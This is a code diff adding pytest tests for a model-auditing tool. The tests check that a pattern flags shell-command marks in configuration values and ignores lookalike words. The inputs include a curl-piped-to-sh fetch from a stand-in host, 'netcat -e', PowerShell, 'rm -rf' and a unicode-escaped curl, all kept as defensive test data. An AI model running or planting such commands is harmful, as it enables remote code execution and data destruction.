@@ -9,6 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from support.cases import check_each
 
+from modelaudit.languages.configurations.commands import COMMAND_MARKS
 from modelaudit.languages.document_settings import collect_json_settings, parse_json_settings, parse_yaml_settings
 from modelaudit.model.limits import Limits
 from modelaudit.wire import json_stream
@@ -205,3 +206,25 @@ def test_number_with_too_many_digits_is_parsed_as_infinity():
     assert size.value == float("inf")
     (size,) = parse_json_settings('{"vocab_size": ' + "1" * 4000 + "}", Limits())
     assert isinstance(size.value, int)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -s https://host.example | sh",
+        "Invoke-WebRequest https://host.example",
+        "zsh -lc x",
+        "netcat -e",
+        "PowerShell.exe x",
+        "rm -rf x",
+        "\\u0063url",
+        "pipe:cat",
+    ],
+)
+def test_mark_of_a_command_is_found(text: str) -> None:
+    assert COMMAND_MARKS.search(f"a: {text}")
+
+
+@pytest.mark.parametrize("text", ["crash -c x", "func -x", "farm -rf", "xsocat x", "apipe:x", "curl is a program"])
+def test_literal_of_a_mark_inside_of_another_word_or_alone_is_no_mark(text: str) -> None:
+    assert not COMMAND_MARKS.search(text)
